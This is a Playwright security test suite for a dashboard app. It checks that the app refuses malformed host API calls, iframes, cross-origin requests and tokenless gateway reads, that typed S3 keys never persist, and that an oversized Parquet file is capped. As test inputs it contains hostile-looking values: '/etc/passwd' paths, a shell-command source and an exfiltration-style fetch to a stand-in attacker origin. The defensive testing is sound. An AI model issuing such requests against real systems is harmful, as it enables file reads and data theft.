// What a page (or something injected into it) can do against the host, from inside the real app
// in Chromium: call the host API with wrong shapes, frame it, call it from another origin, read
// the data gateway without its token, or connect anywhere else. Each is refused.
//
// Popups (`window.open`) and top navigation to another origin are refused by the Electron window
// (electron/window-security.ts `hardenWebContents`, tested in electron/window-security.test.ts and
// electron/main.test.ts); the browser host is a plain browser tab and cannot refuse them.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { test, expect } from './fixtures/app';
import { BROWSER_HOST_TOKEN_HEADER } from '../electron/api/host-api';
import { startS3Fixture } from './fixtures/s3-fixture';
import { SourcesPage } from './pages/sources-page';

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');

/** Another origin on this machine that records what reaches it. */
let other: { origin: string; seen: string[]; server: http.Server };

test.beforeAll(async () => {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.setHeader('Content-Type', 'text/html');
    res.end('<!doctype html><title>other origin</title><p>other</p>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  other = { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, server };
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => other?.server.close(() => resolve()));
});

/** Call the host API from the page the way the renderer's client does (./api/<method>, token header). */
function callFromPage(page: import('@playwright/test').Page, method: string, body: string) {
  return page.evaluate(
    async ({ method, body, header }) => {
      const token = sessionStorage.getItem('northstar.token') ?? '';
      const res = await fetch(`./api/${method}`, { method: 'POST', headers: { 'content-type': 'application/json', [header]: token }, body });
      return { status: res.status, reply: (await res.json()) as { ok: boolean; error?: { code: string; message: string } } };
    },
    { method, body, header: BROWSER_HOST_TOKEN_HEADER },
  );
}

test('host API calls with wrong argument shapes are refused, each naming the problem', async ({ dashboard, page, consoleLog }) => {
  consoleLog.allow(/status of 400 \(Bad Request\)/);
  await dashboard.open();
  await dashboard.waitUntilDrawn();
  // The same call with the right shape works: the refusals below are about shape alone.
  expect((await callFromPage(page, 'getAppInfo', JSON.stringify({ args: [] }))).reply.ok).toBe(true);
  const bad: [string, unknown, RegExp][] = [
    ['openDashboard', [{ path: 5 }], /^Bad arguments to openDashboard at 0\.path: /],
    ['openDashboard', [{ path: '/etc/passwd', extra: true }], /^Bad arguments to openDashboard at 0: Unrecognized key/],
    ['openDashboard', 'not-an-array', /^Bad arguments to openDashboard: /],
    ['trustDashboard', [{ contentHash: '../../etc' }], /^Bad arguments to trustDashboard at 0\.contentHash: /],
    ['saveDashboard', [{ path: '/tmp/x.json', text: '{}', baseDiskHash: null, force: 'yes' }], /^Bad arguments to saveDashboard at 0\.force: /],
    ['connectSource', [{ dashboardPath: '/x', source: { name: 'a', kind: 'shell', command: 'id' } }], /^Bad arguments to connectSource at 0\.source/],
    ['getAppInfo', [1, 2], /^Bad arguments to getAppInfo/],
    ['__proto__', [], /^Unknown host method: __proto__/],
    ['constructor', [], /^Unknown host method: constructor/],
    ['toString', [], /^Unknown host method: toString/],
  ];
  for (const [method, args, message] of bad) {
    const { status, reply } = await callFromPage(page, method, JSON.stringify({ args }));
    expect(status, method).toBe(200);
    expect(reply.ok, method).toBe(false);
    expect(reply.error?.code, method).toBe('badRequest');
    expect(reply.error?.message, method).toMatch(message);
  }
  // Not JSON at all.
  const notJson = await callFromPage(page, 'getAppInfo', '{"args": [');
  expect(notJson.status).toBe(400);
  expect(notJson.reply.error?.message).toBe('The request body is not JSON.');
});

test('an iframe (srcdoc or another origin) cannot run script or reach the host API', async ({ dashboard, page, consoleLog }) => {
  consoleLog.allow(/Content Security Policy|Refused to (execute|frame|load)/);
  await dashboard.open();
  await dashboard.waitUntilDrawn();
  await page.evaluate((otherOrigin) => {
    const srcdoc = document.createElement('iframe');
    srcdoc.srcdoc = `<script>parent.__framed = 1; fetch('/api/getAppInfo', { method: 'POST', body: '{"args":[]}' }).then(() => { parent.__framed = 2; });</script>`;
    document.body.append(srcdoc);
    const foreign = document.createElement('iframe');
    foreign.src = `${otherOrigin}/framed`;
    document.body.append(foreign);
  }, other.origin);
  // Chromium reports the refused frame; by then the srcdoc frame's inline script was refused too.
  await expect.poll(() => consoleLog.errors.some((e) => /frame-src|Refused to frame/.test(e))).toBe(true);
  await expect.poll(() => consoleLog.errors.some((e) => /Executing inline script violates/.test(e))).toBe(true);
  expect(await page.evaluate(() => (window as unknown as { __framed?: number }).__framed ?? null)).toBeNull();
  expect(other.seen.filter((r) => r.includes('/framed'))).toEqual([]);
});

test('a page of another origin cannot drive the host API, even holding the token', async ({ dashboard, page, host, context }) => {
  await dashboard.open();
  await dashboard.waitUntilDrawn();
  const foreign = await context.newPage();
  await foreign.goto(`${other.origin}/attacker`);
  const outcome = await foreign.evaluate(
    async ({ target, header, token }) => {
      try {
        const res = await fetch(`${target}/api/openDashboard`, { method: 'POST', headers: { 'content-type': 'application/json', [header]: token }, body: '{"args":[{"path":"/etc/passwd"}]}' });
        return `status ${res.status}: ${await res.text()}`;
      } catch (err) {
        return `refused: ${(err as Error).message}`;
      }
    },
    { target: host.origin, header: BROWSER_HOST_TOKEN_HEADER, token: host.token },
  );
  expect(outcome).toMatch(/^refused: /);
  // And the request itself, sent with that Origin from outside any browser, is refused by the host.
  const direct = await fetch(`${host.origin}/api/getAppInfo`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: other.origin, [BROWSER_HOST_TOKEN_HEADER]: host.token },
    body: '{"args":[]}',
  });
  expect(direct.status).toBe(403);
  expect(((await direct.json()) as { error: { message: string } }).error.message).toBe('Cross-origin host API calls are refused.');
  await foreign.close();
  void page;
});

test('the data gateway refuses a read without its token; the page cannot connect anywhere else', async ({ dashboard, page, host, workspace, consoleLog }) => {
  consoleLog.allow(/Content Security Policy|Refused to connect|403|Failed to load resource|CORS/);
  await dashboard.open();
  await dashboard.waitUntilDrawn();
  const connected = await host.services.connectSource({ dashboardPath: workspace.file(), source: { name: 'orders', kind: 'file', path: 'data/orders.parquet', format: 'parquet' } });
  const tokenless = connected.url.replace(`/${host.gateway.token}/`, '/');
  const outcome = await page.evaluate(
    async ({ withToken, withoutToken, elsewhere }) => {
      const attempt = async (url: string, init?: RequestInit) => {
        try {
          const res = await fetch(url, init);
          return `status ${res.status}`;
        } catch {
          return 'refused';
        }
      };
      return {
        withToken: await attempt(withToken, { headers: { Range: 'bytes=0-3' } }),
        withoutToken: await attempt(withoutToken, { headers: { Range: 'bytes=0-3' } }),
        elsewhere: await attempt(elsewhere),
      };
    },
    { withToken: connected.url, withoutToken: tokenless, elsewhere: `${other.origin}/exfiltrate?data=secret` },
  );
  // The positive control: with its token, the page reads the gateway (as DuckDB does).
  expect(outcome.withToken).toBe('status 206');
  // Without it: refused (the 403 carries no CORS header, so the page cannot even read the status).
  expect(outcome.withoutToken).toBe('refused');
  expect((await fetch(tokenless)).status).toBe(403);
  // connect-src: the app and the gateway only; nothing reached the other origin.
  expect(outcome.elsewhere).toBe('refused');
  expect(other.seen.filter((r) => r.includes('exfiltrate'))).toEqual([]);
});

/** Every regular file below a folder (hidden ones included). */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    return e.isDirectory() ? filesUnder(full) : e.isFile() ? [full] : [];
  });
}

test('typed S3 keys: after a whole session (read, save, history) the secret is in no file, page, storage, log or host API reply', async ({ dashboard, page, workspace, host }) => {
  const SECRET = 'typed-secret-never-stored-7f3a9c1e5b';
  const s3 = await startS3Fixture({ accessKeyId: 'NORTHSTARTYPEDKEY', secretAccessKey: SECRET, region: 'eu-west-1' });
  const apiReplies: string[] = [];
  const consoleLines: string[] = [];
  page.on('console', (m) => consoleLines.push(m.text()));
  page.on('response', (r) => {
    if (r.url().includes('/api/')) void r.text().then((t) => apiReplies.push(t), () => undefined);
  });
  try {
    await s3.createBucket('private');
    await s3.putFile('private', 'orders.parquet', path.join(path.dirname(workspace.file()), 'data', 'orders.parquet'));
    await dashboard.open();
    await dashboard.waitUntilDrawn();
    const run = await dashboard.runId();
    await dashboard.pointSourceAtS3('orders', { uri: 's3://private/orders.parquet', endpoint: s3.endpoint, region: 'eu-west-1', keys: { accessKeyId: s3.accessKeyId, secretAccessKey: SECRET } });
    await expect(page.locator('[data-dataset="orders"]')).toContainText('rows', { timeout: 60_000 });
    await dashboard.closeSources();
    await dashboard.waitUntilDrawn(run + 1);
    await dashboard.save();
    await expect(page.getByTestId('revision')).toContainText('1');
    // The keys were really used: S3 answered signed reads.
    expect(s3.requests.some((r) => r.method === 'GET' && r.status === 206)).toBe(true);

    expect(await page.content()).not.toContain(SECRET);
    const storage = await page.evaluate(() => JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage } }));
    expect(storage).not.toContain(SECRET);
    expect(consoleLines.join('\n')).not.toContain(SECRET);
    expect(apiReplies.length).toBeGreaterThan(0);
    expect(apiReplies.join('\n')).not.toContain(SECRET);
    const info = await host.services.getAppInfo();
    expect(info.credentialStorage).toBe('Keys you type are kept in memory for this session only; the browser host never writes them to disk.');
    // The S3 form says so where the keys are typed.
    await page.getByRole('banner').getByRole('button', { name: /^Data sources/ }).click();
    const row = page.locator('[data-source="orders"]');
    await row.getByRole('button', { name: /Change/ }).click();
    await expect(row.getByTestId('keys-note')).toHaveText(`${info.credentialStorage} They are never written into the dashboard file.`);
    // The workspace (dashboard, history, data, cache) and the machine's Northstar home.
    const files = [...filesUnder(path.dirname(workspace.dir)), ...filesUnder(workspace.home)].filter((f) => statSync(f).size < 50 * 1024 * 1024);
    expect(files.some((f) => f.includes(`${path.sep}.northstar${path.sep}history`))).toBe(true);
    for (const file of files) expect(readFileSync(file).includes(SECRET), file).toBe(false);
  } finally {
    await s3.stop();
  }
});

test.describe('a tiny Parquet file that declares 2 billion rows', () => {
  // The demo dashboard plus a source, dataset and table panel over dashboards/testdata/hostile/two-billion-rows.parquet
  // (10 KB, 2,000,000,000 rows of one constant column).
  const demo = JSON.parse(readFileSync(path.join(REPO, 'dashboards/examples/customer-kpis.dashboard.json'), 'utf8')) as Record<string, unknown[]>;
  const huge = {
    ...demo,
    sources: [...(demo.sources ?? []), { kind: 'file', name: 'huge', path: 'data/two-billion-rows.parquet', format: 'parquet' }],
    datasets: [...(demo.datasets ?? []), { kind: 'table', name: 'huge', source: 'huge', label: 'Huge', dimensions: [], hierarchies: [], measures: [] }],
    panels: [...(demo.panels ?? []), { id: 'huge_table', kind: 'table', title: 'Two billion rows', dataset: 'huge', columns: ['flag'] }],
    layout: [...(demo.layout ?? []), { panel: 'huge_table', x: 0, y: 40, w: 12, h: 4 }],
  };
  test.use({ openFile: 'huge.dashboard.json', extraFiles: { 'huge.dashboard.json': `${JSON.stringify(huge, null, 2)}\n` } });

  test('is refused from its metadata with the file, its rows and the cap; the other panels draw and the app stays responsive', async ({ dashboard, page, workspace }) => {
    const { copyFileSync } = await import('node:fs');
    copyFileSync(path.join(REPO, 'dashboards/testdata/hostile/two-billion-rows.parquet'), path.join(workspace.dir, 'data', 'two-billion-rows.parquet'));
    await dashboard.open();
    await dashboard.waitUntilDrawn();
    const panel = dashboard.panel('huge_table');
    await expect(panel).toHaveAttribute('data-state', 'error');
    await expect(page.getByText(/data\/two-billion-rows\.parquet declares 2,000,000,000 rows in its Parquet metadata, more than the 500,000,000 rows a dataset may have/).first()).toBeVisible();
    // The demo's own panels drew, and the app still answers: the Data sources dialog opens and closes.
    await expect(dashboard.panel('kpi_revenue')).not.toHaveAttribute('data-state', 'error');
    expect(await dashboard.kpiValue('kpi_revenue')).toBeGreaterThan(0);
    const sources = new SourcesPage(page);
    await sources.open();
    await page.screenshot({ path: path.join(REPO, 'e2e/artifacts/two-billion-rows.png'), fullPage: true });
    await sources.close();
  });
});

test('"Forget keys" next to an S3 source: the typed keys are gone, and the next read has none', async ({ dashboard, page, workspace, consoleLog }) => {
  consoleLog.allow(/credentials|Failed to load resource|40[0-9]/);
  const s3 = await startS3Fixture({ accessKeyId: 'NORTHSTARFORGETKEY', secretAccessKey: 'forget-me-secret-0123456789', region: 'eu-west-1' });
  // Only the typed keys may sign: no AWS credentials in this process's environment.
  for (const name of ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'AWS_PROFILE']) delete process.env[name];
  try {
    await s3.createBucket('private');
    await s3.putFile('private', 'orders.parquet', path.join(path.dirname(workspace.file()), 'data', 'orders.parquet'));
    await dashboard.open();
    await dashboard.waitUntilDrawn();
    await dashboard.pointSourceAtS3('orders', { uri: 's3://private/orders.parquet', endpoint: s3.endpoint, region: 'eu-west-1', keys: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey } });
    const status = page.locator('[data-dataset="orders"]');
    await expect(status).toContainText('rows', { timeout: 60_000 });
    // Pointing the source runs the dashboard more than once: let every read of those runs finish
    // (S3 quiet for a while) before counting, so only reads made after "Forget keys" count.
    await expect
      .poll(
        async () => {
          const seen = s3.requests.length;
          await page.waitForTimeout(1000);
          return s3.requests.length === seen;
        },
        { timeout: 30_000 },
      )
      .toBe(true);
    const signedBefore = s3.requests.length;
    expect(signedBefore).toBeGreaterThan(0);

    const run = await dashboard.runId();
    await page.locator('[data-source="orders"]').getByRole('button', { name: 'Forget keys' }).click();
    await expect(page.getByTestId('notice')).toContainText('Forgot the keys typed for s3://private/orders.parquet.');
    await dashboard.waitUntilDrawn(run + 1);
    // The run after it has no keys to sign with: the source fails, naming credentials, and S3 saw no new read.
    await expect(status).toContainText(/credentials/i, { timeout: 60_000 });
    expect(s3.requests.slice(signedBefore).filter((r) => r.method === 'GET' && r.status === 206)).toEqual([]);
    await page.screenshot({ path: path.join(REPO, 'e2e/artifacts/forget-keys.png') });
    // Forgetting again finds nothing.
    await page.locator('[data-source="orders"]').getByRole('button', { name: 'Forget keys' }).click();
    await expect(page.getByTestId('notice')).toContainText('No keys were kept for s3://private/orders.parquet.');
  } finally {
    await s3.stop();
  }
});
